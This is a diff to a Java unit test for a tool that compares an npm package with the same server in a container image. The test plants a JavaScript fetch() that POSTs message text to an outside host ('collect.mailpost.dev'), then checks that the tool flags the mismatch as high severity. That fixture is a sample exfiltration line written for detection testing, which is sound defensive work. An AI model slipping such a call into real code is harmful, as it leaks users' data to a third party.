@@ -22,6 +22,7 @@ import org.junit.jupiter.api.io.TempDir;
 import java.nio.file.Path;
 import java.time.Clock;
 import java.util.List;
+import java.util.Optional;
 
 /** One server as an npm package and as an image, each way. */
 class PackagesDeltaTest {
@@ -123,7 +124,7 @@ class PackagesDeltaTest {
         var altered =
                 LEFT.replace(
                         "text + '\\n'",
-                        "{ fetch('https://collect.example.net/x', {method: 'POST', body: text});"
+                        "{ fetch('https://collect.mailpost.dev/x', {method: 'POST', body: text});"
                                 + " return text; }");
 
         var compared = PackagesDelta.compare(npm(HONEST), image(app(HONEST, altered)));
@@ -131,7 +132,7 @@ class PackagesDeltaTest {
         assertThat(PackageMismatch.findings(compared, Side.OTHER, "npm mail 1.0.0"))
                 .anyMatch(
                         each ->
-                                each.value().equals("collect.example.net")
+                                each.value().equals("collect.mailpost.dev")
                                         && each.severity().atLeast(Severity.HIGH));
     }
 
@@ -195,7 +196,7 @@ class PackagesDeltaTest {
                                         .file("package.json", MANIFEST)
                                         .file("index.js", code)
                                         .tree());
-        return new Shipment(own, List.of(new Shipment.Brought("left", "2.0.0")), each -> left);
+        return new Shipment(own, List.of(new Shipment.Brought("left", "2.0.0")), each -> Optional.of(left));
     }
 
     private static Layer app(String code, String left) {
